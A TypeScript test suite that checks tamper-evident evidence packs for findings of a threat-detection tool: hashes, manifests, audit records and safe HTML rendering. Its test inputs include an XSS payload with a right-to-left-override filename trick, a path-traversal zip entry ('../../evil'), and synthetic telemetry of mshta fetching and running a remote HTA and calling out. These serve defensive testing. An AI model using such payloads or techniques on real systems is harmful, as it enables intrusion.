import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { gzipSync } from 'node:zlib';
import { Uint8ArrayReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Actor } from '../../access/can';
import { setEnvironment } from '../../base/testEnvironment';
import { readPack } from '../../cli/evidenceVerifyRead';
import { createBudget } from '../../containers/budget';
import { UNPACK_LIMITS } from '../../containers/limits';
import { openZip } from '../../containers/zip';
import { packManifest, packOriginals } from '../../contracts/evidence';
import type { Check } from '../../evidence/check';
import { checkPack } from '../../evidence/checkPack';
import { jsonOf, type Pack, textOf } from '../../evidence/pack';
import { sampleBytes } from '../../sample/sampleRecording';
import { listAudit } from '../../storage/auditEntries';
import { closeStorage, pool } from '../../storage/client';
import { createTestDatabase, type TestDatabase } from '../../storage/testDatabase';
import { giveVerdict } from '../decideFinding';
import { nodeDigest } from '../nodeDigest';
import { importWhole } from '../testImports';
import type { TestRecord } from '../testRecords';
import { connection, file, query, quiet, start } from '../testSysmon';
import { findingEvidence } from './findingEvidence';
import { zipStream } from './zipStream';

const ACTOR: Actor = { name: 'lea', role: 'lead' };
const DATA = path.resolve(import.meta.dirname, '../../../../shared/data');
/** An archive of JSON lines, whose records are kept in chunks, and a binary event log, whose records are told in XML. */
const RECORDINGS = [
  'mordor/psh_mshta_html_application_execution.zip',
  'evtx/exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx',
];

let database: TestDatabase;
let folder: string;
let restore: () => void;

beforeAll(async () => {
  folder = await mkdtemp(path.join(os.tmpdir(), 'sequela-packs-'));
  database = await createTestDatabase();
  restore = setEnvironment({ DATABASE_URL: database.url });
  await importWhole(Buffer.from(sampleBytes()), 'sample.json', folder);
}, 240_000);
afterAll(async () => {
  await closeStorage();
  restore();
  await database.drop();
  await rm(folder, { recursive: true, force: true });
});

async function findingIds(host = '%'): Promise<readonly string[]> {
  const { rows } = await pool().query<{ id: string }>(
    'SELECT f.id FROM findings f JOIN hosts h ON h.id = f.host_id WHERE h.name LIKE $1 ORDER BY f.id',
    [host],
  );
  return rows.map(({ id }) => id);
}

async function bytesOf(id: string, originals: 'true' | 'false' = 'false'): Promise<Buffer> {
  const { content } = await findingEvidence(id, { originals }, ACTOR);
  const pieces: Uint8Array[] = [];
  for await (const piece of content) pieces.push(piece);
  return Buffer.concat(pieces);
}

async function opened(bytes: Uint8Array): Promise<Pack> {
  const file = path.join(folder, 'pack.zip');
  await writeFile(file, bytes);
  return readPack(file);
}

async function expectHolds(id: string): Promise<Pack> {
  const pack = await opened(await bytesOf(id));
  const checks = checkPack(pack, nodeDigest);
  expect(checks.filter(({ ok }) => !ok)).toEqual([]);
  const manifest = jsonOf(pack, 'manifest.json', packManifest);
  expect(manifest.findings).toMatchObject([{ id, recomputes: true }]);
  expect(checks.map(({ text }) => text).join('\n')).toContain(`finding ${id}`);
  return pack;
}

describe('the evidence pack of a finding', () => {
  it('holds for the findings of the sample: their ids come out of their records again', async () => {
    const ids = await findingIds();
    expect(ids.length).toBeGreaterThan(5);
    for (const id of ids) await expectHolds(id);
  }, 300_000);

  it.for(RECORDINGS)('holds for a real recording, %s', { timeout: 300_000 }, async (one, { skip }) => {
    skip(!existsSync(path.join(DATA, one)), `no recording ../shared/data/${one} beside the project`);
    const known = new Set(await findingIds());
    await importWhole(readFileSync(path.join(DATA, one)), path.basename(one), folder);
    const fresh = (await findingIds()).filter((id) => !known.has(id));
    expect(fresh.length).toBeGreaterThan(0);
    for (const id of fresh) await expectHolds(id);
  });

  it('holds for rows of a table, plain and packed, which are read under its heading', async () => {
    await importWhole(Buffer.from(table('TAB1')), 'plain.csv', folder);
    await importWhole(gzipSync(Buffer.from(table('TAB2'))), 'packed.csv.gz', folder);
    for (const host of ['tab1', 'tab2']) {
      const [id = ''] = await findingIds(`${host}%`);
      const pack = await expectHolds(id);
      expect([...pack.files.keys()].filter((name) => name.includes('heading'))).toHaveLength(1);
    }
  }, 120_000);

  it('tells its story three times, and what it is for whoever opens it without Sequela', async () => {
    const [id = ''] = await findingIds('fin-ws07%');
    const pack = await opened(await bytesOf(id));
    for (const name of [
      'README.txt',
      `findings/${id}/finding.json`,
      `findings/${id}/verdicts.json`,
      'baselines.json',
    ])
      expect(textOf(pack, name).length).toBeGreaterThan(2);
    expect(textOf(pack, 'README.txt')).toContain('sha256sum -c manifest.sha256');
    for (const name of ['story.html', 'story.md', 'story.pdf'])
      expect(pack.files.get(name)?.bytes).toBeGreaterThan(1000);
  });

  it('tells the verdict and its reason, as a page that runs nothing and loads nothing', async () => {
    const [id = ''] = await findingIds('eng-ws12%');
    const reason = 'Called the owner. <script>alert(1)</script><img src=x> \u202egnp.exe';
    await giveVerdict(id, { verdict: 'true_positive', reason }, ACTOR);
    await opened(await bytesOf(id));
    const files = await unzipped(path.join(folder, 'pack.zip'));
    const page = Buffer.from(files.get('story.html') ?? []).toString();
    expect(page).not.toMatch(/<script|<img|<link|<iframe|<a |\b(src|href)="|url\(|@import/i);
    expect(page).toContain('True positive by lea');
    expect(page).toContain('Called the owner. &#60;script&#62;alert(1)&#60;/script&#62;&#60;img src=x&#62;');
    expect(page).not.toContain('\u202e');
    expect(Buffer.from(files.get('story.md') ?? []).toString()).toContain('Called the owner');
  });

  it('is audited when it is asked for and when it is whole, with the hash of its manifest', async () => {
    const [id = ''] = await findingIds('fin-ws07%');
    const pack = await opened(await bytesOf(id, 'true'));
    const [sealed, exported] = await listAudit({ subject: `finding:${id}` }, { limit: 2 });
    expect(sealed).toMatchObject({
      by: 'lea',
      action: 'evidence.sealed',
      details: { manifest: pack.files.get('manifest.json')?.sha256 },
    });
    expect(exported).toMatchObject({
      action: 'evidence.exported',
      details: { originals: true, findings: 1 },
    });
    expect(textOf(pack, 'audit.ndjson')).toContain('evidence.exported');
    const [original] = jsonOf(pack, 'originals.json', packOriginals);
    expect(pack.files.get(original?.file ?? '')?.sha256).toBe(original?.sha256);
  });

  it('stops being made when nobody takes it any more', async () => {
    let taken = 0;
    async function* files() {
      for (; taken < 1000; taken++) yield { name: `f${taken}`, content: Buffer.alloc(200_000, taken) };
    }
    for await (const _ of zipStream(files(), async () => [])) break;
    await promisify(setTimeout)(200);
    expect(taken).toBeLessThan(100);
  });

  it('fails as a stream when a file of it cannot be read', async () => {
    async function* files() {
      yield { name: 'a', content: 'a' };
      throw new Error('gone');
    }
    const read = async () => {
      for await (const _ of zipStream(files(), async () => []));
    };
    await expect(read()).rejects.toThrow('gone');
  });
});

describe('a pack that somebody changed', () => {
  let whole: Map<string, Uint8Array>;
  let id: string;

  beforeAll(async () => {
    [id = ''] = await findingIds('hr-lt22%');
    const file = path.join(folder, 'whole.zip');
    await writeFile(file, await bytesOf(id, 'true'));
    whole = await unzipped(file);
  }, 120_000);

  it('is one that holds when nothing was changed', async () => {
    expect(await faultsOf(whole)).toEqual([]);
  });

  it('shows one changed byte in every kind of file', async () => {
    const kinds = new Map<string, string>();
    for (const name of whole.keys())
      kinds.set(
        name.replace(/^(records|originals)\/\d.*/, '$1').replace(/^analytics\/AN.*/, 'analytics'),
        name,
      );
    expect(kinds.size).toBeGreaterThan(18);
    for (const name of kinds.values()) {
      const faults = await faultsOf(withFile(name, flipped(whole.get(name))));
      expect(faults.join('\n'), name).toMatch(/manifest|not what it was/);
    }
  }, 120_000);

  it('shows a file that was taken out, and one that was put in', async () => {
    const without = new Map(whole);
    without.delete('baselines.json');
    expect(await faultsOf(without)).toEqual(['files: baselines.json is missing']);
    expect(await faultsOf(withFile('records/extra', Buffer.from('x')))).toEqual([
      'files: records/extra was added',
    ]);
  });

  it('shows a changed record though the manifest was written anew: the event is another', async () => {
    const name = recordOfMshta();
    const text = Buffer.from(whole.get(name) ?? []).toString();
    const faults = await faultsOf(
      signed(withFile(name, Buffer.from(text.replace(/mshta|explorer|chrome|svchost/i, 'x$&')))),
    );
    expect(faults.join()).toContain('do not give the id of their event');
  });

  it('shows a changed entry of the audit extract though the manifest was written anew', async () => {
    const lines = Buffer.from(whole.get('audit.ndjson') ?? []).toString();
    for (const changed of [lines.replace('"by":"lea"', '"by":"eve"'), lines.replaceAll('lea', 'eve')])
      expect((await faultsOf(signed(withFile('audit.ndjson', Buffer.from(changed))))).join()).toMatch(
        /audit: entry \d+ (does not give its hash|says something else)/,
      );
  });

  it('shows a finding that its records do not give', async () => {
    const manifest = Buffer.from(whole.get('manifest.json') ?? []).toString();
    const other = manifest.replaceAll(`"id": "${id}"`, `"id": "${'0'.repeat(32)}"`);
    expect((await faultsOf(signed(withFile('manifest.json', Buffer.from(other))))).join()).toContain(
      'its id does not come out of the records',
    );
  });

  it('is told by exit codes: 0 holds, 1 does not, 2 is no pack', async () => {
    const run = async (name: string, bytes: Uint8Array) => {
      const file = path.join(folder, name);
      await writeFile(file, bytes);
      const { status, stdout, stderr } = spawnSync(
        process.execPath,
        ['--import', 'tsx', 'lib/cli/evidenceVerify.ts', file],
        { encoding: 'utf8' },
      );
      return { status, text: stdout + stderr };
    };
    const good = await run('good.zip', await zipped(whole));
    expect(good, good.text).toMatchObject({ status: 0 });
    expect(good.text).toMatch(/ok {4}finding [0-9a-f]{32} .*comes out again[\s\S]*The pack holds/);
    const climbing = new Map(whole).set('../../evil', Buffer.from('x'));
    const bad = await run('bad.zip', await zipped(climbing));
    expect(bad, bad.text).toMatchObject({ status: 1 });
    expect(bad.text).toContain('__/__/evil was added');
    expect(await run('other.zip', await zipped(new Map([['a.txt', Buffer.from('a')]])))).toMatchObject({
      status: 2,
    });
  }, 240_000);

  it('is no pack when it is no ZIP, or a ZIP without a manifest; one that is damaged does not hold', async () => {
    await expect(opened(Buffer.from('not a zip'))).rejects.toMatchObject({ code: 'bad_input' });
    const empty = await opened(await zipped(new Map([['a.txt', Buffer.from('a')]])));
    expect(() => checkPack(empty, nodeDigest)).toThrow('not an evidence pack');
    const damaged = Buffer.from(await zipped(whole));
    damaged.fill(0, 2000, 2100);
    const faults = checkPack(await opened(damaged), nodeDigest).filter(({ ok }) => !ok);
    expect(faults.length).toBeGreaterThan(0);
  });

  function withFile(name: string, content: Uint8Array): Map<string, Uint8Array> {
    return new Map(whole).set(name, content);
  }

  function recordOfMshta(): string {
    for (const [name, content] of whole)
      if (/^records\/\d+\.\d+$/.test(name) && /mshta/i.test(Buffer.from(content).toString())) return name;
    throw new Error('no record names mshta');
  }
});

function flipped(content: Uint8Array | undefined): Uint8Array {
  const changed = Buffer.from(content ?? []);
  const at = changed.length >> 1;
  changed[at] = (changed[at] ?? 0) ^ 1;
  return changed;
}

/** The pack as somebody would leave it who knows how a manifest is made. */
function signed(files: Map<string, Uint8Array>): Map<string, Uint8Array> {
  const manifest = packManifest.parse(JSON.parse(Buffer.from(files.get('manifest.json') ?? []).toString()));
  const sha = (content: Uint8Array) => createHash('sha256').update(content).digest('hex');
  const listed = manifest.files.map(({ name }) => {
    const content = files.get(name) ?? new Uint8Array();
    return { name, bytes: content.length, sha256: sha(content) };
  });
  const text = Buffer.from(JSON.stringify({ ...manifest, files: listed }));
  return new Map(files)
    .set('manifest.json', text)
    .set('manifest.sha256', Buffer.from(`${sha(text)}  manifest.json\n`));
}

async function faultsOf(files: ReadonlyMap<string, Uint8Array>): Promise<readonly string[]> {
  const pack = await opened(await zipped(files));
  const checks: readonly Check[] = checkPack(pack, nodeDigest);
  return checks.filter(({ ok }) => !ok).map(({ text }) => text);
}

async function zipped(files: ReadonlyMap<string, Uint8Array>): Promise<Uint8Array> {
  const zip = new ZipWriter(new Uint8ArrayWriter(), { level: 1, useWebWorkers: false });
  for (const [name, content] of files) await zip.add(name, new Uint8ArrayReader(content));
  return zip.close();
}

async function unzipped(file: string): Promise<Map<string, Uint8Array>> {
  const files = new Map<string, Uint8Array>();
  const budget = createBudget(UNPACK_LIMITS, 1_000_000_000);
  for await (const member of openZip({ path: file, name: '', fault: null }, { budget }, { bytes: 0 })) {
    const pieces: Uint8Array[] = [];
    for await (const piece of member.bytes) pieces.push(Uint8Array.from(piece));
    files.set(member.name.slice(1), Buffer.concat(pieces));
  }
  return files;
}

/** mshta runs a remote HTA, writes a file and calls out; as a table. */
function table(host: string): string {
  const rows: readonly TestRecord[] = [
    ...quiet(host, '2026-11-20T08:00', 12),
    start(
      host,
      '2026-11-20T09:00:00',
      1,
      'C:\\Windows\\System32\\mshta.exe',
      `mshta https://cdn.example.net/${host}.hta, "a"`,
    ),
    query(host, '2026-11-20T09:00:01', 1, 'cdn.example.net', '198.51.100.7'),
    connection(host, '2026-11-20T09:00:02', 1, '198.51.100.7'),
    file(host, '2026-11-20T09:00:03', 1, 'C:\\Users\\anna\\AppData\\Local\\Temp\\run.js'),
    ...quiet(host, '2026-11-20T09:10', 12),
  ];
  const columns = [...new Set(rows.flatMap((row) => Object.keys(row)))];
  const line = (cells: readonly unknown[]) =>
    cells.map((cell) => `"${String(cell ?? '').replaceAll('"', '""')}"`).join(',');
  return [columns, ...rows.map((row) => columns.map((column) => (row as Record<string, unknown>)[column]))]
    .map(line)
    .join('\r\n');
}
